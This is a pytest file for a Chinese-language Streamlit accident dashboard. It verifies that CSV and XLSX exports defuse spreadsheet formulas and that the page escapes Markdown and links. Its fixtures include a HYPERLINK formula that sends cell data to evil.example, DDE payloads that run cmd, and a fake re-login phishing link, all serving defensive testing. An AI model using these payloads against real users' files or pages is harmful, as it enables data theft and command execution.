"""Safe output: a downloaded cell never runs as a formula (CSV and XLSX), as OWASP advises for CSV injection."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from conftest import ROOT, as_shown
from streamlit.testing.v1 import AppTest

from exports.downloads import HEADER_ROWS, Column, Export, safe_cell, safe_csv_frame, to_csv, to_xlsx
from i18n import md_text

PAYLOADS = [
    ('=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', '\'=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-12.5", "-12.5"),  # a number stays a number
    ("+86", "+86"),
    ("-", "'-"),
    ("长沙市某化工有限公司", "长沙市某化工有限公司"),
    ("a=b", "a=b"),
]


@pytest.mark.parametrize(("text", "safe"), PAYLOADS)
def test_safe_cell(text: str, safe: str) -> None:
    assert safe_cell(text) == safe


def _export(values: list[str]) -> Export:
    frame = pd.DataFrame({"enterprise": values, "n": range(len(values))})
    return Export(
        "报表",
        "检索：=1+1",
        "测试",
        frame,
        [Column("enterprise", "单位", "Enterprise"), Column("n", "数量", "Count", "int")],
    )


def test_a_csv_download_writes_every_payload_as_text() -> None:
    texts = [t for t, _s in PAYLOADS]
    rows = list(csv.reader(io.StringIO(to_csv(_export(texts)).decode("utf-8-sig"), newline="")))
    assert rows[1] == ["筛选条件", "检索：=1+1"]  # begins with 检: nothing to neutralise
    body = rows[HEADER_ROWS + 1 :]
    assert [r[0] for r in body] == [s for _t, s in PAYLOADS]
    assert [r[1] for r in body] == [str(i) for i in range(len(PAYLOADS))]


def test_an_xlsx_download_has_no_formula() -> None:
    data = to_xlsx(_export([t for t, _s in PAYLOADS]))
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet
    # Each text is kept as it was, in a string cell (a carriage return is stored escaped, as XLSX does).
    back = pd.read_excel(io.BytesIO(data), skiprows=HEADER_ROWS, dtype=str, engine="openpyxl")
    assert back.iloc[:, 0].tolist() == [t.replace("\r", "_x000D_") for t, _s in PAYLOADS]


def test_a_frame_written_with_pandas_is_made_safe_too() -> None:
    frame = pd.DataFrame({"=cmd": ["=1+1", "ok", None], "n": [1, -2, 3]})
    out = safe_csv_frame(frame)
    assert list(out.columns) == ["'=cmd", "n"]
    assert out["'=cmd"].tolist()[:2] == ["'=1+1", "ok"] and out["n"].tolist() == [1, -2, 3]


# ---------------------------------------------------------------- text shown as text

UNESCAPED_LINK = re.compile(
    r"(?<!\\)\]\s*\(|(?<!\\)!\[|(?<!\\)<[a-z/]|(?<![\\])\bhttps?(?<!\\):(?<!\\)//|(?<!\\):[a-z]+\["
)


@pytest.mark.parametrize(
    "text",
    [
        "![x](http://host/img.png)",
        "[登录已过期，请点击此处重新登录](http://evil.example/login)",
        "<img src='http://host/x.png'>",
        ":red[危险]",
        ":material/warning:",
        "http://evil.example",
        "www.evil.example",
        "长沙市**某**公司",
        "$x^2$",
        "a\n\n# heading",
        "`code`",
        "~~gone~~",
        "a | b",
    ],
)
def test_md_text_leaves_no_markup(text: str) -> None:
    shown = md_text(text)
    assert "\n" not in shown
    assert not UNESCAPED_LINK.search(shown), shown
    # Markdown's rule: a backslash before punctuation shows the punctuation, so the reader sees the text.
    assert as_shown(shown) == " ".join(text.splitlines())


@pytest.mark.parametrize(
    "params",
    [
        {"lang": "[登录已过期，请点击此处重新登录](http://evil.example/login)"},
        {"region": "![x](http://host/img.png)"},
        {"period": "[2024](http://evil.example)", "industry": ":red[x],![y](http://h/i.png)"},
    ],
)
def test_a_hostile_link_shows_its_values_as_text(app_env: Path, params: dict[str, str]) -> None:
    at = AppTest.from_file(str(ROOT / "dashboard.py"), default_timeout=120)
    for k, v in params.items():
        at.query_params[k] = v
    at.run()
    assert not at.exception
    shown = [e.value for e in [*at.warning, *at.info, *at.error, *at.markdown, *at.caption]]
    assert [x.value for x in at.title] == ["领导驾驶舱"]  # the page was drawn, in Chinese
    for text in shown:  # a value quoted in a notice is escaped: no address a browser would follow
        for marker in ("evil.example", "img.png", "h/i.png", ":red["):
            assert marker not in text, text


def test_the_rejects_download_writes_a_formula_as_text(tmp_path: Path) -> None:
    """A ledger row rejected for a negative death toll, its cells carrying formulas: the rejects CSV (the
    Data page's download and the CLI's) keeps every cell as typed, with a leading apostrophe where a
    spreadsheet would run it."""
    from loaders.importer import import_file, write_rejects
    from store import open_store

    ledger = tmp_path / "ledger.csv"
    ledger.write_text(
        "事故编号,发生时间,所在地区,行业,单位,死亡人数\n"
        "A1,2024-03-05 10:00,长沙市,建筑施工,某公司,1\n"
        '=HYPERLINK("http://evil.example"),2024-03-06 10:00,长沙市,建筑施工,@SUM(1+1),-1\n',
        encoding="utf-8",
    )
    store = open_store(tmp_path / "s.duckdb")
    result = import_file(store, ledger, "accidents")
    assert result.rejected == 1
    out = tmp_path / "rejects.csv"
    assert write_rejects(store, out, result.import_id) == 1
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"), newline="")))
    cells = dict(zip(rows[0], rows[1], strict=True))
    assert cells["事故编号"] == '\'=HYPERLINK("http://evil.example")'
    assert cells["单位"] == "'@SUM(1+1)"
    assert cells["死亡人数"] == "-1"  # a number stays a number


def test_no_traceback_reaches_a_visitor() -> None:
    """Streamlit shows an unexpected error's type, message and traceback in the page unless told not to:
    the project's config shows none of them (they are logged on the server)."""
    import tomllib

    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"]["showErrorDetails"] == "none"
    assert config["server"]["address"] == "127.0.0.1" and config["server"]["enableXsrfProtection"] is True
